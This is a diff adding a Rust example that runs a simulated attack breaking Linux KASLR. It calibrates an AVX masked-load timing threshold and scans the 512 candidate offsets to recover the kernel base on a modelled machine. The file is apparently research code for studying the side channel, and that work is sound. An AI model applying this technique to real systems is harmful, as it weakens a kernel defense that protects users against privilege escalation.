@@ -1,0 +1,52 @@
+//! Quickstart: break Linux KASLR in a few lines.
+//!
+//! Builds a KASLR-randomized Linux machine model, calibrates the
+//! mapped/unmapped threshold from the attacker's own pages (no kernel
+//! knowledge needed), probes the 512 candidate offsets with all-zero-
+//! mask AVX loads, and recovers the kernel base.
+//!
+//! ```text
+//! cargo run --release --example quickstart
+//! ```
+
+use avx_channel::report::fmt_seconds;
+use avx_channel::{KernelBaseFinder, Prober, SimProber, Threshold};
+use avx_os::linux::{LinuxConfig, LinuxSystem};
+use avx_uarch::CpuProfile;
+
+fn main() {
+    // A Linux machine with a secret KASLR slide (seed it differently
+    // and the kernel moves).
+    let seed = std::env::args()
+        .nth(1)
+        .and_then(|s| s.parse().ok())
+        .unwrap_or(2024u64);
+    let system = LinuxSystem::build(LinuxConfig::seeded(seed));
+    let (machine, truth) = system.into_machine(CpuProfile::alder_lake_i5_12400f(), seed);
+
+    // The attacker: an unprivileged process probing with masked loads.
+    let mut prober = SimProber::new(machine);
+
+    // §IV-B calibration: a masked store on an own, never-written page
+    // times exactly like a kernel-mapped load (dirty-bit assist).
+    let threshold = Threshold::calibrate(&mut prober, truth.user.calibration, 16);
+    println!("calibrated threshold: {:.1} cycles", threshold.boundary());
+
+    // Probe all 512 candidate 2 MiB offsets, twice each (keep the 2nd).
+    let scan = KernelBaseFinder::new(threshold).scan(&mut prober);
+
+    match scan.base {
+        Some(base) => {
+            println!("recovered kernel base: {base}");
+            println!("actual kernel base:    {}", truth.kernel_base);
+            println!(
+                "probing {} / total {}",
+                fmt_seconds(scan.probing_cycles as f64 / (prober.clock_ghz() * 1e9)),
+                fmt_seconds(scan.total_cycles as f64 / (prober.clock_ghz() * 1e9)),
+            );
+            assert_eq!(base, truth.kernel_base, "KASLR defeated");
+            println!("=> KASLR broken (9 bits of entropy gone).");
+        }
+        None => println!("no mapped run found — try another seed"),
+    }
+}
